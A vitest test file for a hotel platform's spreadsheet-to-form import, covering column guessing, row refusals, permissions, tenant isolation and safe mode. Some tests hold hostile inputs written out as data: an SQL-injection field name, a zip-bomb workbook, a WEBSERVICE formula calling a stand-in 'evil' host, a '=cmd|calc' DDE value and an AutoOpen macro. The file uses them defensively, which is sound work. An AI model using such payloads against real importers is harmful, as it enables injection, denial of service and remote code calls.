import { buffer } from 'node:stream/consumers'
import { deflateRawSync } from 'node:zlib'
import { ask, type Booted, boot, signIn, signInTo } from '@kezhan/app-server/testing/boot'
import { addPerson } from '@kezhan/app-server/testing/people'
import type {
  FormFromSheet,
  formFromSheet,
  GuessedColumn,
  readFormSheet,
} from '@kezhan/online/model/from-sheet'
import { repairsSheet } from '@kezhan/online/server/testing/repairs-sheet'
import type { AnswerOf } from '@kezhan/resource/call'
import type { Cell } from '@kezhan/server-kit/sheets/sheet-row'
import { aWorkbook, SHEET_PART } from '@kezhan/server-kit/sheets/testing/a-workbook'
import { writeXlsx } from '@kezhan/server-kit/sheets/write-xlsx'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { multipart } from './testing/multipart'

let booted: Booted
/** Of the platform, acting in a hotel. */
let inHotel: string
/** The same person at home. */
let atHome: string
let manager: string
let roleId: string
beforeAll(async () => {
  booted = await boot()
  inHotel = await signInTo(booted.app, 'KZ001')
  atHome = await signIn(booted.app, 'admin')
  manager = await signIn(booted.app, 'manager')
  const [role] = await booted.sql<{ id: string }>(
    `select ur.role_id as id from sys_user_role ur join sys_user u on u.id = ur.user_id where u.username = 'manager'`,
  )
  roleId = role?.id ?? ''
})
afterAll(() => booted.stop())

const sheet = (titles: readonly string[], rows: readonly (readonly Cell[])[]): Promise<Buffer> =>
  buffer(writeXlsx({ sheetName: '数据', columns: titles.map(title => ({ title })), rows: [rows] }))

function read(file: Buffer | undefined, token = inHotel, fields: Record<string, string> = {}) {
  const files = file === undefined ? [] : [{ field: 'file', name: '表.xlsx', content: file }]
  const { body, headers } = multipart(files, fields)
  const path = '/online/cgform/api/readSheet'
  return ask<AnswerOf<typeof readFormSheet>>(booted.app, 'POST', path, { token, body, headers })
}
function make(file: Buffer, plan: object | string, token = inHotel) {
  const content = Buffer.from(typeof plan === 'string' ? plan : JSON.stringify(plan))
  const { body, headers } = multipart(
    [
      { field: 'file', name: '表.xlsx', content: file },
      { field: 'plan', name: 'plan.json', content },
    ],
    {},
  )
  const path = '/online/cgform/api/fromSheet'
  return ask<AnswerOf<typeof formFromSheet>>(booted.app, 'POST', path, { token, body, headers })
}
/** What a person sends who takes every guess. */
const planned = (columns: readonly GuessedColumn[]) =>
  columns.map(({ items: _, reason: __, isRequired, isUnique, ...column }) => ({
    ...column,
    isRequired: isRequired ? 'Y' : 'N',
    isUnique: isUnique ? 'Y' : 'N',
  }))
const plain = (more: object = {}) => ({
  kind: 'text',
  maxLength: 50,
  isRequired: 'N',
  isUnique: 'N',
  ...more,
})
const oneColumn = (more: object = {}) => ({
  headRow: 1,
  title: '小表',
  dataScope: 'hotel',
  columns: [plain({ at: 0, name: 'mingcheng', label: '名称', ...more })],
})
const listOf = async (code: string, token: string, query: Record<string, string> = {}) =>
  ask<{ total: number; records: Record<string, unknown>[] }>(booted.app, 'GET', `/online/data/${code}/list`, {
    token,
    query,
  })
const formCount = async () =>
  (await booted.sql<{ count: string }>('select count(*)::text as count from onl_cgform_head'))[0]?.count

test('a sheet of 20 columns and 5,000 rows becomes a form with data, dictionaries, a menu place and rights', async () => {
  const file = await repairsSheet(5000)
  const { body } = await read(file)
  expect(body.message).toBe('')
  const { guess, places, mayAddDictionaries, mayGrant } = body.result
  expect(guess).toMatchObject({ headRow: 2, rows: 5000, warnings: [] })
  expect(guess.preview).toHaveLength(20)
  expect([mayAddDictionaries, mayGrant]).toEqual([true, true])
  expect(places?.map(({ id }) => id)).toContain('menu:Setting.roomInfo')
  expect(guess.columns.map(({ label, kind }) => `${label} ${kind}`)).toEqual([
    '工单编号 text',
    '报修日期 date',
    '房号 text',
    '楼层 integer',
    '类别 dict',
    '紧急程度 dict',
    '报修人 text',
    '联系电话 text',
    '邮箱 text',
    '状态 dict',
    '完成时间 datetime',
    '是否保修 switch',
    '材料费 money',
    '人工费 money',
    '合计 money',
    '工时 decimal',
    '完成率 percent',
    '开工时刻 time',
    '故障描述 textarea',
    '备注 text',
  ])
  expect(guess.columns[0]).toMatchObject({ name: 'gongdanbianhao', isRequired: true, isUnique: true })
  const made = await make(file, {
    headRow: guess.headRow,
    title: '维修工单',
    dataScope: 'hotel',
    columns: planned(guess.columns),
    menuParentId: 'menu:Setting.roomInfo',
    roleIds: [roleId],
    rights: 'view',
  })
  expect(made.body.message).toBe('表单已建立')
  expect(made.body.result).toMatchObject({
    code: 'weixiugongdan',
    title: '维修工单',
    total: 5000,
    imported: 5000,
    refused: [],
    fileUrl: null,
  })
  // The role of the hotel sees the list, with texts for codes, and may not change it.
  const list = await listOf('weixiugongdan', manager, { column: 'gongdanbianhao', order: 'asc' })
  expect(list.body.result.total).toBe(5000)
  expect(list.body.result.records[1]).toMatchObject({
    gongdanbianhao: 'WX-00002',
    baoxiuriqi: '2026-02-02',
    fanghao: '102',
    leibie: '水电',
    leibie_dictText: '水电',
    wanchengshijian: '2026-05-02 11:30:00',
    shifoubaoxiu: 'N',
    cailiaofei: 150,
    rengongfei: 200_000,
    heji: 125,
    gongshi: 0.75,
    wanchenglv: 100,
    beizhu: null,
  })
  const menu = await ask(booted.app, 'GET', '/sys/permission/getUserPermissionByToken', { token: manager })
  expect(JSON.stringify(menu.body.result)).toContain('/online/cgformList/weixiugongdan')
  const add = await ask(booted.app, 'POST', '/online/data/weixiugongdan/add', { token: manager, body: {} })
  expect(add.status).toBe(403)
  // Form and rows are those of the hotel in which they were brought in.
  const neighbour = await signInTo(booted.app, 'KZ002')
  expect((await listOf('weixiugongdan', neighbour)).status).toBe(404)
  // Every row has its record, as after any import.
  const [records] = await booted.sql<{ count: string }>(
    `select count(*)::text as count from sys_change_log where table_name = 'onl_weixiugongdan'`,
  )
  expect(records?.count).toBe('5000')
})

test('the same sheet again gets a code of its own; columns may be left out, renamed and made text', async () => {
  const file = await sheet(
    ['名称', '颜色', '数量'],
    [
      ['甲', '红', 1],
      ['乙', '绿', 2],
    ],
  )
  const columns = [
    plain({ at: 1, name: 'yanse', label: '外观' }),
    plain({ at: 0, name: 'mingcheng', label: '名称', isUnique: 'Y' }),
  ]
  const plan = { headRow: 1, title: '样品', dataScope: 'hotel', columns }
  expect((await make(file, plan)).body.result.code).toBe('yangpin')
  const again = await make(file, plan)
  expect(again.body.result.code).toBe('yangpin_2')
  const { records } = (await listOf('yangpin_2', inHotel)).body.result
  expect(records.map(({ yanse, mingcheng }) => [yanse, mingcheng]).sort()).toEqual([
    ['红', '甲'],
    ['绿', '乙'],
  ])
})

test('rows that do not fit are told with their number and reason, the others go in', async () => {
  const file = await sheet(
    ['名称', '数量'],
    [
      ['甲', 1],
      ['乙', '很多'],
      ['甲', 3],
      [null, 4],
    ],
  )
  const { body } = await make(file, {
    headRow: 1,
    title: '不齐',
    dataScope: 'hotel',
    columns: [
      plain({ at: 0, name: 'mingcheng', label: '名称', isRequired: 'Y', isUnique: 'Y' }),
      plain({ at: 1, name: 'shuliang', label: '数量', kind: 'integer' }),
    ],
  })
  const { fileUrl, ...result } = body.result
  expect(result).toMatchObject({
    total: 4,
    imported: 1,
    refused: [
      { number: 3, reason: '数量应为整数' },
      { number: 4, reason: '名称“甲”在文件中重复' },
      { number: 5, reason: '请输入名称' },
    ],
    fileName: '不齐导入错误.xlsx',
  } satisfies Partial<FormFromSheet>)
  expect((await ask(booted.app, 'GET', fileUrl ?? '', { token: inHotel })).headers['content-type']).toContain(
    'sheet',
  )
})

test('an existing dictionary serves as it is; a value that it does not know is refused with its row', async () => {
  const file = await sheet(['保修'], [['是'], ['或许']])
  const known = await booted.sql<{ code: string; text: string }>(
    `select d.dict_code as code, i.item_text as text from sys_dict d join sys_dict_item i on i.dict_id = d.id
     where d.dict_code = 'online_scope' order by i.sort_order limit 1`,
  )
  const { body } = await make(
    await sheet(['范围'], [[known[0]?.text ?? ''], ['或许']]),
    oneColumn({ label: '范围', kind: 'dict', dictCode: 'online_scope' }),
  )
  expect(body.result).toMatchObject({ imported: 1, refused: [{ number: 3, reason: '范围“或许”不存在' }] })
  const missing = await make(file, oneColumn({ kind: 'dict', dictCode: 'no_such_dictionary' }))
  expect(missing.body.success).toBe(false)
  expect(missing.body.message).toContain('字典')
})

test('what the platform shares is made at home; rows of a hotel want a hotel', async () => {
  const file = await sheet(['名称'], [['甲']])
  expect((await make(file, oneColumn(), atHome)).body.message).toBe('请先选择要进入的酒店')
  const shared = await make(file, { ...oneColumn(), title: '共用表', dataScope: 'global' }, atHome)
  expect(shared.body.result).toMatchObject({ code: 'gongyongbiao', imported: 1 })
})

test('nothing stays of what is refused half-way', async () => {
  const file = await sheet(
    ['名称', '类'],
    [
      ['甲', '一'],
      ['乙', '二'],
    ],
  )
  const before = await formCount()
  const columns = [
    plain({ at: 0, name: 'mingcheng', label: '名称' }),
    plain({ at: 1, name: 'lei', label: '类', kind: 'dict', dictName: '半途' }),
  ]
  const plan = { headRow: 1, title: '半途', dataScope: 'hotel', columns }
  for (const [more, reason] of [
    [{ menuParentId: 'menu:no.where' }, '菜单位置不存在，请重新选择目录'],
    [{ roleIds: ['nobody'] }, '未找到角色信息'],
  ] as const)
    expect((await make(file, { ...plan, ...more })).body.message).toBe(reason)
  expect(await formCount()).toBe(before)
  expect(await booted.sql(`select 1 from sys_dict where dict_name = '半途'`)).toEqual([])
  expect(await booted.sql(`select to_regclass('onl_bantu') as it`)).toEqual([{ it: null }])
  expect((await make(file, plan)).body.result).toMatchObject({ code: 'bantu', imported: 2 })
})

test('definitions that no form could have are refused with a sentence', async () => {
  const file = await sheet(['名称'], [['甲']])
  const before = await formCount()
  const columns = Array.from({ length: 10_000 }, (_, at) => plain({ at, name: `c${at}`, label: `列${at}` }))
  for (const [plan, reason] of [
    ['{', '表单定义无法读取，请重新选择文件'],
    ['[]', '表单定义无法读取，请重新选择文件'],
    ['null', '表单定义无法读取，请重新选择文件'],
    ['['.repeat(50_000), '表单定义无法读取，请重新选择文件'],
    [{ ...oneColumn(), columns }, '表单定义过大，请减少列数'],
    [{ ...oneColumn(), title: '长'.repeat(2_000_000) }, '表单定义过大，请减少列数'],
    [{ ...oneColumn(), columns: columns.slice(0, 101) }, '列一次最多100行'],
    [oneColumn({ kind: 'password' }), '表单定义有误：“名称”的类型不能识别'],
    [oneColumn({ name: 'id' }), '表单定义有误：字段名“id”是保留名'],
    [oneColumn({ name: 'x"; drop table hotel; --' }), '应为小写字母开头的字母和数字'],
    [oneColumn({ pattern: 'no_such' }), '格式'],
    [
      { ...oneColumn(), columns: [...oneColumn().columns, ...oneColumn({ name: 'b' }).columns] },
      '所在的列用了两次',
    ],
    [oneColumn({ at: 5 }), '文件中没有数据'],
  ] as const) {
    const { body } = await make(file, plan)
    expect(body.success).toBe(false)
    expect(body.message).toContain(reason)
  }
  expect(await formCount()).toBe(before)
})

test('sheets that cannot be read are refused with a sentence, by both calls', async () => {
  const many = Array.from({ length: 201 }, (_, index) => [`词${index}`])
  const wide = Array.from({ length: 101 }, (_, index) => `列${index}`)
  const bomb = aWorkbook({
    changed: {
      [SHEET_PART]: {
        content: 'x',
        compressed: deflateRawSync(Buffer.alloc(64 * 1024 * 1024)),
        declaredBytes: 10,
      },
    },
  })
  for (const [file, reason] of [
    [await sheet(['名称'], []), '文件中没有数据'],
    [await sheet(wide, [wide]), '第 1 行超过 100 列，不能导入'],
    [bomb, '文件里有一行内容过长，不能导入'],
    [Buffer.from('no sheet'), '文件不是有效的 Excel 文件'],
  ] as const) {
    expect((await read(file)).body.message).toContain(reason)
    expect((await make(file, oneColumn())).body.message).toContain(reason)
  }
  expect((await read(undefined)).body.message).toBe('请选择要导入的文件')
  const post = { token: inHotel, body: {} }
  expect((await ask(booted.app, 'POST', '/online/cgform/api/readSheet', post)).body.message).toBe(
    '请选择要导入的文件',
  )
  expect((await make(await sheet(['词'], many), oneColumn({ kind: 'dict' }))).body.message).toBe(
    '“名称”有超过200种不同的值，不能作为字典，请改为文字',
  )
})

test('formulas and macros are never run: the value that stands in the cell is all that is read', async () => {
  const file = aWorkbook({
    rows:
      '<row r="1"><c r="A1" t="str"><v>名称</v></c></row>' +
      '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil")</f><v>=cmd|calc</v></c></row>',
    more: [{ name: 'xl/vbaProject.bin', content: 'Sub AutoOpen()' }],
  })
  const { code } = (await make(file, { ...oneColumn(), title: '公式' })).body.result
  expect((await listOf(code, inHotel)).body.result.records).toMatchObject([{ mingcheng: '=cmd|calc' }])
})

test('where the head stands is what the person says', async () => {
  const file = await sheet(
    ['甲', '乙'],
    [
      ['丙', '丁'],
      ['戊', '己'],
    ],
  )
  const said = (headRow: string) => read(file, inHotel, { headRow }).then(({ body }) => body.result.guess)
  expect(await said('2')).toMatchObject({ headRow: 2, rows: 1 })
  expect(await said('0')).toMatchObject({ headRow: null, rows: 3 })
})

test('who may not make forms makes none, and a hotel neither places nor makes dictionaries', async () => {
  const file = await sheet(['名称'], [['甲']])
  expect((await read(file, manager)).status).toBe(403)
  expect((await make(file, oneColumn(), manager)).status).toBe(403)
  const [hotel] = await booted.sql<{ tenantId: string }>(
    `select tenant_id as "tenantId" from hotel where code = 'KZ001'`,
  )
  const tenantId = hotel?.tenantId ?? ''
  const drawer = await addPerson(booted, {
    username: 'sheetdrawer',
    tenantId,
    hotelCode: 'KZ001',
    rights: ['online:cgform:head:list', 'online:cgform:head:add', 'online:cgform:sync'],
  })
  const { body } = await read(file, drawer.token)
  expect(body.result).toMatchObject({ places: null, mayAddDictionaries: false, mayGrant: false })
  const refused = async (more: object) => make(file, { ...oneColumn(), title: '自用', ...more }, drawer.token)
  expect((await refused({ columns: oneColumn({ kind: 'dict' }).columns })).body.message).toBe(
    '只有平台可以新建字典，请把“名称”改为文字，或选择已有的字典',
  )
  expect((await refused({ menuParentId: 'menu:Setting.roomInfo' })).body.success).toBe(false)
  expect((await refused({ roleIds: [roleId] })).status).toBe(403)
  const made = await refused({})
  expect(made.body.result).toMatchObject({ code: 'ziyong', imported: 1 })
  const [row] = await booted.sql<{ hotel: string }>('select hotel_code as hotel from onl_ziyong')
  expect(row?.hotel).toBe('KZ001')
})

test('safe mode keeps everything as it is', async () => {
  await booted.sql(
    `insert into sys_config (id, config_key, config_name, config_value) values ('safe', 'sysSafeMode', '安全模式', 'Y')
     on conflict (config_key) do update set config_value = 'Y'`,
  )
  const { body } = await make(await sheet(['名称'], [['甲']]), oneColumn())
  expect(body.message).toBe('安全模式下不允许修改在线开发配置')
})
